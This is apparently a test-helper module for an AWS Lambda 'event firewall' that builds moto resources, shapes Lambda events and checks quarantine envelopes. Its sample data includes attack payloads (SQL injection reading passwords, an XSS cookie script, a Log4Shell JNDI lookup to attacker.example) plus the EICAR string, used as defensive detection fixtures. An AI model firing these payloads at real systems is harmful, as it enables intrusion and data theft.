"""Helpers of the functional tests: the moto account, Lambda event shapes, the local target.

The user of the firewall meets a real AWS API, so these tests do too: resources are created through
boto3 in a moto server process, and event shapes are taken from what moto really returns
(`receive_message`, DynamoDB Streams' and Kinesis' `get_records`, S3 notifications delivered to SQS,
SNS deliveries to SQS), then converted to the shape Lambda passes to a function.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import hashlib
import io
import json
import time
import urllib.request
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import unquote_plus

from botocore.awsrequest import AWSResponse

import firewall
from firewall.local.targets import LocalTargets, Throttled
from firewall.runtime.clients import aws_client
from firewall.runtime.processor import Processor
from firewall.sources import parse_event

REGION = "us-east-1"
ACCOUNT = "123456789012"
QUARANTINE = "fw-quarantine"
ROUTE = "orders"
REPO = Path(__file__).resolve().parents[2]

# The EICAR test string, assembled so that this source file does not itself hold it.
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00"

CLEAN_BODIES = [
    '{"orderId": "A-1001", "customer": "ada", "items": [{"sku": "book-42", "qty": 1}], "note": "gift wrap"}',
    '{"orderId": "A-1002", "customer": "grace", "items": [{"sku": "pen-7", "qty": 3}], "note": "leave at door"}',
    "plain text: the parcel was delivered at 10:42",
    '{"event": "signup", "user": "linus", "plan": "trial", "referrer": "https://www.example.com/"}',
]
MALICIOUS_BODIES = [
    '{"orderId": "A-2001", "note": "1\' UNION SELECT username, password FROM users--"}',
    '{"orderId": "A-2002", "note": "<script>alert(document.cookie)</script>"}',
    '{"orderId": "A-2003", "customer": "${jndi:ldap://attacker.example/a}"}',
]


# -- the moto server ---------------------------------------------------------------------------


def post(url: str, body: Any = None) -> bytes:
    request = urllib.request.Request(
        url, data=json.dumps(body or {}).encode(), method="POST", headers={"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(request, timeout=10) as response:
        return bytes(response.read())


# -- signatures --------------------------------------------------------------------------------

CUSTOM_SIGNATURES = """\
family: acme
description: A route's own signatures (FIREWALL_SIGNATURES), here a project codename that must not leak.
signatures:
  - id: FW-ACME-001
    title: Internal project codename
    severity: critical
    paranoia: 1
    targets: [any]
    transforms: [lowercase]
    pattern: '\\bproject[ _-]bluebird\\b'
    examples:
      match: ['status of Project Bluebird']
      no_match: ['a blue bird sang']
"""


# -- the account -------------------------------------------------------------------------------


def lambda_sqs_record(message: dict[str, Any], queue_arn: str) -> dict[str, Any]:
    """A message as `receive_message` returns it -> the record Lambda's SQS poller passes on."""
    attributes = {
        name: message["Attributes"][name]
        for name in (
            "ApproximateReceiveCount",
            "SentTimestamp",
            "SequenceNumber",
            "MessageGroupId",
            "SenderId",
            "MessageDeduplicationId",
            "ApproximateFirstReceiveTimestamp",
        )
        if name in message.get("Attributes", {})
    }
    message_attributes = {}
    for name, value in message.get("MessageAttributes", {}).items():
        converted: dict[str, Any] = {"stringListValues": [], "binaryListValues": [], "dataType": value["DataType"]}
        if "StringValue" in value:
            converted["stringValue"] = value["StringValue"]
        if "BinaryValue" in value:
            raw = value["BinaryValue"]
            converted["binaryValue"] = base64.b64encode(raw if isinstance(raw, bytes) else raw.encode()).decode()
        message_attributes[name] = converted
    record: dict[str, Any] = {
        "messageId": message["MessageId"],
        "receiptHandle": message["ReceiptHandle"],
        "body": message["Body"],
        "attributes": attributes,
        "messageAttributes": message_attributes,
        "md5OfBody": message["MD5OfBody"],
        "eventSource": "aws:sqs",
        "eventSourceARN": queue_arn,
        "awsRegion": REGION,
    }
    if "MD5OfMessageAttributes" in message:
        record["md5OfMessageAttributes"] = message["MD5OfMessageAttributes"]
    return record


def lambda_stream_record(record: dict[str, Any], stream_arn: str) -> dict[str, Any]:
    """A DynamoDB Streams `get_records` record -> the record Lambda passes on (see TOOLING.md)."""
    converted = json.loads(json.dumps(record, default=str))
    stream = converted["dynamodb"]
    created = record["dynamodb"]["ApproximateCreationDateTime"]
    stream["ApproximateCreationDateTime"] = float(int(created.timestamp()))
    converted["eventVersion"] = "1.1"
    converted["eventSourceARN"] = stream_arn
    converted["awsRegion"] = REGION
    return converted


def lambda_kinesis_record(record: dict[str, Any], stream_arn: str, shard_id: str) -> dict[str, Any]:
    """A Kinesis `get_records` record -> the record Lambda passes on."""
    return {
        "kinesis": {
            "kinesisSchemaVersion": "1.0",
            "partitionKey": record["PartitionKey"],
            "sequenceNumber": record["SequenceNumber"],
            "data": base64.b64encode(record["Data"]).decode(),
            "approximateArrivalTimestamp": round(record["ApproximateArrivalTimestamp"].timestamp(), 3),
        },
        "eventSource": "aws:kinesis",
        "eventVersion": "1.0",
        "eventID": f"{shard_id}:{record['SequenceNumber']}",
        "eventName": "aws:kinesis:record",
        "invokeIdentityArn": f"arn:aws:iam::{ACCOUNT}:role/firewall-role",
        "awsRegion": REGION,
        "eventSourceARN": stream_arn,
    }


def lambda_sns_record(delivered: dict[str, Any], subscription_arn: str) -> dict[str, Any]:
    """The JSON SNS delivers to an SQS queue -> the record SNS passes to a Lambda subscriber."""
    sns = {
        "Type": delivered["Type"],
        "MessageId": delivered["MessageId"],
        "TopicArn": delivered["TopicArn"],
        "Subject": delivered.get("Subject"),
        "Message": delivered["Message"],
        "Timestamp": delivered["Timestamp"],
        "SignatureVersion": delivered["SignatureVersion"],
        "Signature": delivered["Signature"],
        "SigningCertUrl": delivered["SigningCertURL"],
        "UnsubscribeUrl": delivered["UnsubscribeURL"],
        "MessageAttributes": delivered.get("MessageAttributes", {}),
    }
    return {"EventSource": "aws:sns", "EventVersion": "1.0", "EventSubscriptionArn": subscription_arn, "Sns": sns}


def sent_date(record: dict[str, Any]) -> str:
    """YYYY/MM/DD of the record's own creation time, as the quarantine key uses it."""
    if "attributes" in record:
        when = datetime.fromtimestamp(int(record["attributes"]["SentTimestamp"]) / 1000, UTC)
    elif "dynamodb" in record:
        when = datetime.fromtimestamp(record["dynamodb"]["ApproximateCreationDateTime"], UTC)
    elif "kinesis" in record:
        when = datetime.fromtimestamp(record["kinesis"]["approximateArrivalTimestamp"], UTC)
    elif "Sns" in record:
        when = datetime.fromisoformat(record["Sns"]["Timestamp"].replace("Z", "+00:00"))
    else:
        when = datetime.fromisoformat(record["eventTime"].replace("Z", "+00:00"))
    return when.strftime("%Y/%m/%d")


@dataclass
class Notifications:
    """What S3 sent to a queue: the s3:TestEvent, then one message (one S3 record) per object."""

    test_event: dict[str, Any]
    test_message: dict[str, Any]
    messages: list[dict[str, Any]]
    """SQS records (Lambda's shape) whose body is an S3 notification."""
    records: list[dict[str, Any]]
    """The S3 notification records, as S3 would hand them to a function directly."""

    def record(self, key: str) -> dict[str, Any]:
        return next(r for r in self.records if unquote_plus(r["s3"]["object"]["key"]) == key)

    def message(self, key: str) -> dict[str, Any]:
        return self.messages[self.records.index(self.record(key))]


_CLIENTS: dict[tuple[str, str], Any] = {}


class Account:
    """Resources in the moto account, created with ordinary boto3 calls."""

    def __init__(self, url: str) -> None:
        self.url = url
        self._role: str | None = None

    def client(self, service: str) -> Any:
        """The test's own clients (never the firewall's): made once per session, as clients are
        slow to make and the endpoint and credentials never change."""
        key = (self.url, service)
        if key not in _CLIENTS:
            _CLIENTS[key] = aws_client(service)
        return _CLIENTS[key]

    s3 = property(lambda self: self.client("s3"))
    sqs = property(lambda self: self.client("sqs"))
    sns = property(lambda self: self.client("sns"))
    kms = property(lambda self: self.client("kms"))
    dynamodb = property(lambda self: self.client("dynamodb"))
    streams = property(lambda self: self.client("dynamodbstreams"))
    kinesis = property(lambda self: self.client("kinesis"))
    lambda_ = property(lambda self: self.client("lambda"))
    iam = property(lambda self: self.client("iam"))

    # S3 ----------------------------------------------------------------------------------------

    def bucket(self, name: str, *, encrypted: bool = False, versioned: bool = False) -> str:
        self.s3.create_bucket(Bucket=name)
        if encrypted:
            self.s3.put_bucket_encryption(
                Bucket=name,
                ServerSideEncryptionConfiguration={
                    "Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]
                },
            )
        if versioned:
            self.s3.put_bucket_versioning(Bucket=name, VersioningConfiguration={"Status": "Enabled"})
        return name

    def buckets(self) -> list[str]:
        return [bucket["Name"] for bucket in self.s3.list_buckets()["Buckets"]]

    def quarantine_bucket(self) -> str:
        """Like the construct's QuarantineBucket: default encryption on."""
        return self.bucket(QUARANTINE, encrypted=True)

    def quarantined(self, route: str = ROUTE) -> dict[str, dict[str, Any]]:
        """Envelope key -> envelope, for every envelope of the route."""
        found = {}
        for key in self.quarantine_keys(route):
            if key.endswith(".json"):
                found[key] = json.loads(self.s3.get_object(Bucket=QUARANTINE, Key=key)["Body"].read())
        return found

    def quarantine_keys(self, route: str = ROUTE) -> list[str]:
        try:
            pages = self.s3.get_paginator("list_objects_v2").paginate(Bucket=QUARANTINE, Prefix=route + "/")
            return [item["Key"] for page in pages for item in page.get("Contents", [])]
        except self.s3.exceptions.NoSuchBucket:
            return []

    def tags(self, bucket: str, key: str) -> dict[str, str]:
        return {t["Key"]: t["Value"] for t in self.s3.get_object_tagging(Bucket=bucket, Key=key)["TagSet"]}

    def s3_notifications(self, bucket: str, objects: dict[str, bytes]) -> Notifications:
        """Configure `bucket` to notify a queue, put `objects` (in order), and return what S3 sent
        there, in `objects` order: one SQS message per object, each holding one S3 record."""
        url, arn = self.queue(f"notify-{bucket}")
        self.s3.put_bucket_notification_configuration(
            Bucket=bucket,
            NotificationConfiguration={"QueueConfigurations": [{"QueueArn": arn, "Events": ["s3:ObjectCreated:*"]}]},
        )
        for key, body in objects.items():
            self.s3.put_object(Bucket=bucket, Key=key, Body=body)
        messages = self.receive(url, arn, len(objects) + 1)
        tests = [m for m in messages if json.loads(m["body"]).get("Event") == "s3:TestEvent"]
        found = {
            unquote_plus(json.loads(m["body"])["Records"][0]["s3"]["object"]["key"]): m
            for m in messages
            if m not in tests
        }
        assert len(tests) == 1 and sorted(found) == sorted(objects)
        ordered = [found[key] for key in objects]
        return Notifications(
            test_event=json.loads(tests[0]["body"]),
            test_message=tests[0],
            messages=ordered,
            records=[json.loads(m["body"])["Records"][0] for m in ordered],
        )

    # SQS ---------------------------------------------------------------------------------------

    def queue(self, name: str, *, fifo: bool = False) -> tuple[str, str]:
        attributes = {"FifoQueue": "true", "ContentBasedDeduplication": "true"} if fifo else {}
        url = self.sqs.create_queue(QueueName=name + (".fifo" if fifo else ""), Attributes=attributes)["QueueUrl"]
        arn = self.sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
        return url, arn

    def send(
        self,
        url: str,
        bodies: list[str],
        *,
        groups: list[str] | None = None,
        attributes: list[dict[str, Any]] | None = None,
    ) -> list[str]:
        """Send messages in order (batches of 10); returns their message ids in that order."""
        ids = []
        for start in range(0, len(bodies), 10):
            entries = []
            for index in range(start, min(start + 10, len(bodies))):
                entry: dict[str, Any] = {"Id": str(index), "MessageBody": bodies[index]}
                if groups:  # FIFO: explicit deduplication ids, so equal bodies are distinct messages
                    entry["MessageGroupId"] = groups[index]
                    entry["MessageDeduplicationId"] = f"{time.time_ns()}-{index}"
                if attributes and attributes[index]:
                    entry["MessageAttributes"] = attributes[index]
                entries.append(entry)
            response = self.sqs.send_message_batch(QueueUrl=url, Entries=entries)
            assert not response.get("Failed"), response.get("Failed")
            by_entry = {item["Id"]: item["MessageId"] for item in response["Successful"]}
            ids.extend(by_entry[entry["Id"]] for entry in entries)
        return ids

    def receive(self, url: str, arn: str, count: int) -> list[dict[str, Any]]:
        """Receive `count` messages (as Lambda's poller would, all attributes), in Lambda's shape."""
        records: list[dict[str, Any]] = []
        deadline = time.monotonic() + 10
        while len(records) < count and time.monotonic() < deadline:
            response = self.sqs.receive_message(
                QueueUrl=url,
                MaxNumberOfMessages=10,
                AttributeNames=["All"],
                MessageSystemAttributeNames=["All"],
                MessageAttributeNames=["All"],
                VisibilityTimeout=300,
            )
            records.extend(lambda_sqs_record(m, arn) for m in response.get("Messages", []))
        assert len(records) == count, f"received {len(records)} of {count} messages"
        return records

    def sqs_event(
        self,
        bodies: list[str],
        *,
        fifo: bool = False,
        groups: list[str] | None = None,
        attributes: list[dict[str, Any]] | None = None,
        name: str = "orders",
    ) -> dict[str, Any]:
        """Send `bodies` through a real queue and return the Lambda event of those messages, in send
        order (as Lambda's poller would deliver them in one batch)."""
        url, arn = self.queue(name, fifo=fifo)
        ids = self.send(url, bodies, groups=groups, attributes=attributes)
        records = self.receive(url, arn, len(bodies))
        records.sort(key=lambda r: ids.index(r["messageId"]))
        return {"Records": records}

    # DynamoDB streams ------------------------------------------------------------------------

    def table(self, name: str = "orders") -> str:
        """A table with a NEW_AND_OLD_IMAGES stream; returns the stream ARN."""
        description = self.dynamodb.create_table(
            TableName=name,
            KeySchema=[{"AttributeName": "pk", "KeyType": "HASH"}],
            AttributeDefinitions=[{"AttributeName": "pk", "AttributeType": "S"}],
            BillingMode="PAY_PER_REQUEST",
            StreamSpecification={"StreamEnabled": True, "StreamViewType": "NEW_AND_OLD_IMAGES"},
        )["TableDescription"]
        return str(description["LatestStreamArn"])

    def stream_records(self, stream_arn: str) -> list[dict[str, Any]]:
        """Every record of the table's stream so far, in Lambda's shape."""
        description = self.streams.describe_stream(StreamArn=stream_arn)["StreamDescription"]
        records = []
        for shard in description["Shards"]:
            iterator = self.streams.get_shard_iterator(
                StreamArn=stream_arn, ShardId=shard["ShardId"], ShardIteratorType="TRIM_HORIZON"
            )["ShardIterator"]
            while iterator:
                response = self.streams.get_records(ShardIterator=iterator, Limit=1000)
                records.extend(lambda_stream_record(r, stream_arn) for r in response["Records"])
                if not response["Records"]:
                    break
                iterator = response.get("NextShardIterator")
        return records

    def dynamodb_event(self, items: list[dict[str, Any]], *, name: str = "orders") -> dict[str, Any]:
        """Put `items` (typed attribute values) into a table with a stream; the stream's Lambda event."""
        stream_arn = self.table(name)
        for start in range(0, len(items), 25):
            self.dynamodb.batch_write_item(
                RequestItems={name: [{"PutRequest": {"Item": item}} for item in items[start : start + 25]]}
            )
        return {"Records": self.stream_records(stream_arn)}

    # Kinesis and SNS -------------------------------------------------------------------------

    def kinesis_event(self, payloads: list[bytes], *, name: str = "clicks") -> dict[str, Any]:
        self.kinesis.create_stream(StreamName=name, ShardCount=1)
        description = self.kinesis.describe_stream(StreamName=name)["StreamDescription"]
        shard_id = description["Shards"][0]["ShardId"]
        for index, data in enumerate(payloads):
            self.kinesis.put_record(StreamName=name, Data=data, PartitionKey=f"user-{index}")
        iterator = self.kinesis.get_shard_iterator(StreamName=name, ShardId=shard_id, ShardIteratorType="TRIM_HORIZON")[
            "ShardIterator"
        ]
        records = self.kinesis.get_records(ShardIterator=iterator, Limit=1000)["Records"]
        return {"Records": [lambda_kinesis_record(r, description["StreamARN"], shard_id) for r in records]}

    def sns_event(
        self, messages: list[tuple[str | None, str, dict[str, Any]]], *, name: str = "uploads"
    ) -> dict[str, Any]:
        """Publish (subject, message, attributes) to a real topic; the records SNS would hand Lambda.

        moto does not run Lambda subscribers, so an SQS subscription captures what SNS delivers."""
        topic = self.sns.create_topic(Name=name)["TopicArn"]
        url, arn = self.queue(f"{name}-capture")
        subscription = self.sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=arn)["SubscriptionArn"]
        published = []
        for subject, message, attributes in messages:
            options: dict[str, Any] = {"MessageAttributes": attributes} if attributes else {}
            if subject:
                options["Subject"] = subject
            published.append(self.sns.publish(TopicArn=topic, Message=message, **options)["MessageId"])
        delivered = [json.loads(m["body"]) for m in self.receive(url, arn, len(messages))]
        delivered.sort(key=lambda d: published.index(d["MessageId"]))
        return {"Records": [lambda_sns_record(d, subscription) for d in delivered]}

    # Lambda ------------------------------------------------------------------------------------

    def function(self, name: str) -> str:
        """A target function in moto (its code runs locally through LocalTargets); its ARN."""
        if self._role is None:
            self._role = self.iam.create_role(
                RoleName="target-role",
                AssumeRolePolicyDocument=json.dumps(
                    {
                        "Version": "2012-10-17",
                        "Statement": [
                            {
                                "Effect": "Allow",
                                "Principal": {"Service": "lambda.amazonaws.com"},
                                "Action": "sts:AssumeRole",
                            }
                        ],
                    }
                ),
            )["Role"]["Arn"]
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w") as bundle:
            bundle.writestr("index.py", "def handler(event, context):\n    return None\n")
        response = self.lambda_.create_function(
            FunctionName=name,
            Runtime="python3.12",
            Role=self._role,
            Handler="index.handler",
            Code={"ZipFile": archive.getvalue()},
        )
        return str(response["FunctionArn"])


# -- the firewall and its target ---------------------------------------------------------------


@dataclass
class Target:
    """A target function's code: records every event it is given, then does what `behaviour` says
    (return a value, raise, raise Throttled). The default returns nothing: every record succeeded."""

    events: list[dict[str, Any]] = field(default_factory=list)
    behaviour: Callable[[dict[str, Any]], Any] | None = None

    def __call__(self, event: dict[str, Any], context: Any) -> Any:
        self.events.append(event)
        return self.behaviour(event) if self.behaviour else None

    @property
    def records(self) -> list[dict[str, Any]]:
        return [record for event in self.events for record in event.get("Records", [])]

    def raises(self, message: str = "target failed") -> None:
        def behaviour(_event: dict[str, Any]) -> Any:
            raise RuntimeError(message)

        self.behaviour = behaviour

    def throttled(self) -> None:
        def behaviour(_event: dict[str, Any]) -> Any:
            raise Throttled

        self.behaviour = behaviour

    def fails(self, ids: list[str]) -> None:
        self.behaviour = lambda _event: {"batchItemFailures": [{"itemIdentifier": i} for i in ids]}


@dataclass
class Harness:
    processor: Processor
    targets: LocalTargets
    target: Target
    target_arn: str
    log: list[str]
    hooks: list[tuple[Any, str, Callable[..., Any]]] = field(default_factory=list)

    @property
    def signature_set(self) -> str:
        return self.processor.firewall.version

    def handle(self, event: dict[str, Any]) -> dict[str, Any]:
        return self.processor.handle(json.loads(json.dumps(event)), None)

    def lines(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.log]

    def record_lines(self) -> list[dict[str, Any]]:
        return [line for line in self.lines() if "record_id" in line]

    def hook(self, client: Any, event: str, function: Callable[..., Any]) -> None:
        """Register a botocore handler on one of the firewall's clients, removed after the test."""
        client.meta.events.register(event, function)
        self.hooks.append((client, event, function))

    def unhook(self) -> None:
        while self.hooks:
            client, event, function = self.hooks.pop()
            client.meta.events.unregister(event, function)

    def fail_s3(
        self, operation: str, decide: Callable[[dict[str, Any]], bool], code: str = "SlowDown", status: int = 503
    ) -> Callable[[], None]:
        """Make the firewall's S3 `operation` (PutObject, GetObject...) answer with an S3 error
        whenever `decide(params)` says so, as S3 itself would (no request reaches moto then).
        Returns a function that ends the outage."""

        def hook(params: dict[str, Any], **_: Any) -> tuple[AWSResponse, dict[str, Any]] | None:
            if not decide(params):
                return None
            parsed = {
                "Error": {"Code": code, "Message": f"injected {code}"},
                "ResponseMetadata": {"HTTPStatusCode": status, "HTTPHeaders": {}},
            }
            return AWSResponse(params.get("url", "http://s3"), status, {}, None), parsed

        client, event = self.processor.quarantine.s3, f"before-call.s3.{operation}"
        self.hook(client, event, hook)

        def stop() -> None:
            """S3 answers normally again."""
            client.meta.events.unregister(event, hook)
            self.hooks.remove((client, event, hook))

        return stop


@dataclass
class Context:
    """The part of Lambda's context object the firewall uses."""

    remaining_ms: int = 60_000
    function_name: str = "event-firewall-orders"
    aws_request_id: str = "4f0c9a4e-0000-4000-8000-000000000001"

    def get_remaining_time_in_millis(self) -> int:
        return self.remaining_ms


@dataclass
class Deployed:
    """The firewall function behind `firewall.runtime.handler.handler`, and its local target."""

    targets: LocalTargets
    target: Target
    target_arn: str
    stdout: io.StringIO

    def output(self) -> str:
        """What the function printed (its log) since the last call of `output`."""
        text = self.stdout.getvalue()
        self.stdout.seek(0)
        self.stdout.truncate()
        return text

    @property
    def signature_set(self) -> str:
        """The version hash of the signature set the function's settings select."""
        from firewall.runtime.handler import ColdStart

        return ColdStart.from_environment().firewall.version

    def __call__(self, event: Any, context: Any = None) -> dict[str, Any]:
        """Invoke the handler; what it prints (its log, as in Lambda) is kept in `stdout`."""
        from firewall.runtime import handler

        with contextlib.redirect_stdout(self.stdout):
            return handler.handler(json.loads(json.dumps(event)), context or Context())


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def md5(text: str) -> str:
    return hashlib.md5(text.encode()).hexdigest()


def envelope_key(raw: dict[str, Any], source: str, record_id: str, route: str = ROUTE) -> str:
    """s3://QUARANTINE/ROUTE/YYYY/MM/DD/SOURCE/RECORD_ID.json, the date being the record's own."""
    return f"{route}/{sent_date(raw)}/{source}/{record_id}.json"


def check_envelope(
    aws: Account,
    harness: Harness | Deployed,
    raw: dict[str, Any],
    *,
    source: str,
    record_id: str,
    source_arn: str | None,
    detected: bool = True,
    route: str = ROUTE,
) -> tuple[str, dict[str, Any]]:
    """The record's envelope is where the contract says, complete, encrypted and tagged pending."""
    key = envelope_key(raw, source, record_id, route)
    envelope = json.loads(aws.s3.get_object(Bucket=QUARANTINE, Key=key)["Body"].read())
    assert envelope["schema_version"] == 1
    assert envelope["route"] == route
    assert envelope["source"] == source
    assert envelope["source_arn"] == source_arn
    assert envelope["target"] == harness.target_arn
    assert datetime.fromisoformat(envelope["received_at"].replace("Z", "+00:00")).tzinfo is not None
    assert envelope["record"] == raw, "the record is kept verbatim"
    verdict = envelope["verdict"]
    assert verdict["action"] == "quarantine"
    if detected:
        assert verdict["detected"] is True and verdict["score"] >= 5
        assert verdict["matches"] and all(m["signature_id"].startswith("FW-") for m in verdict["matches"])
        assert all(len(m["excerpt"]) <= 64 for m in verdict["matches"])
    else:
        assert verdict["error"], "an undetected record is quarantined only under the error policy"
    assert envelope["signature_set"] == harness.signature_set and envelope["signature_set"]
    assert envelope["firewall_version"] == firewall.__version__
    assert envelope["status"] == "pending"
    head = aws.s3.head_object(Bucket=QUARANTINE, Key=key)
    assert head.get("ServerSideEncryption") in ("AES256", "aws:kms")
    assert aws.tags(QUARANTINE, key) == {"firewall-status": "pending"}
    return key, envelope


def object_copy(aws: Account, envelope_key: str) -> bytes:
    """The copy of an S3 object quarantined beside its envelope (encrypted and tagged pending too)."""
    key = envelope_key.removesuffix(".json") + ".object"
    head = aws.s3.head_object(Bucket=QUARANTINE, Key=key)
    assert head.get("ServerSideEncryption") in ("AES256", "aws:kms")
    assert aws.tags(QUARANTINE, key) == {"firewall-status": "pending"}
    return bytes(aws.s3.get_object(Bucket=QUARANTINE, Key=key)["Body"].read())


def record_ids(event: dict[str, Any]) -> list[str]:
    """The ids the firewall gives the event's records (messageId, SequenceNumber, S3 object hash)."""
    return [record.record_id for record in parse_event(event).records]
